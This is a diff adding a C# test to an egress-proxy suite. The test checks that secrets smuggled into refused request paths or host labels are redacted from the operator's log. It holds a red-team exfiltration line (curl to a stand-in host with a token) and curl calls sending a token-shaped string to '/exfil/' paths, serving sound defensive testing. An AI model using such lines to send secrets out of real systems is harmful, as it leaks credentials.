@@ -160,6 +160,45 @@ public class UpstreamTlsTests
     }
 
     [Fact]
+    public async Task A_refused_request_leaves_a_secret_in_its_path_or_host_out_of_the_log()
+    {
+        // The attack (red team 11, left open then): curl https://unlisted.example/<token> is refused, nothing leaves the
+        // bottle, but the refusal's record carried the path (and the NoMatch message quoting it) in clear to the
+        // operator's egress log, which promises secrets redacted.
+        const string token = "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";
+        const string known = "k3y5ecret4f9b2c7d1e8a";
+        var output = new StringWriter();
+        var narrow = ProxyHarness.Route() with { Matches = [new RouteMatch { Paths = [new ValuePattern(PatternKind.Prefix, "/api/")], Methods = ["GET"] }] };
+        var inspector = SidecarInspector.Create(new Dictionary<string, string> { ["DEPLOY_KEY"] = known });
+        await using (var h = await ProxyHarness.StartAsync(new EgressPolicy([narrow], EgressLogLevel.All), inspector, log: new EgressLog(output)))
+        {
+            foreach (var url in new[]
+            {
+                h.Https("/exfil/" + token, "other.test"), h.Http("/exfil/" + token, "other.test"), // NoRoute
+                h.Https("/elsewhere/" + token), h.Http("/elsewhere/" + token), // NoMatch: the message quotes the path
+                h.Https("/", known + ".other.test"), h.Http("/", known + ".other.test"), // the known secret as a host label
+            })
+            {
+                var r = await h.CurlAsync("-i", "--suppress-connect-headers", url);
+                Assert.StartsWith("HTTP/1.1 403", r.StandardOutput, StringComparison.Ordinal);
+            }
+
+            // Control: a refusal without a secret keeps its host and path.
+            var control = await h.CurlAsync("-i", "--suppress-connect-headers", h.Http("/plain-refusal", "other.test"));
+            Assert.StartsWith("HTTP/1.1 403", control.StandardOutput, StringComparison.Ordinal);
+            Assert.Empty(h.Upstream.Received);
+        }
+
+        var log = output.ToString();
+        Assert.DoesNotContain(token, log, StringComparison.OrdinalIgnoreCase);
+        Assert.DoesNotContain(known, log, StringComparison.OrdinalIgnoreCase);
+        Assert.Contains("github-pat-classic", log, StringComparison.Ordinal); // the operator sees what the agent tried to send
+        Assert.Contains("[redacted]", log, StringComparison.Ordinal);
+        Assert.Contains("/plain-refusal", log, StringComparison.Ordinal);
+        Assert.Contains("other.test", log, StringComparison.Ordinal);
+    }
+
+    [Fact]
     public async Task The_agents_sni_must_name_the_connect_host()
     {
         // Both hosts are allowed and reach the same upstream; only the SNI/CONNECT pairing differs.
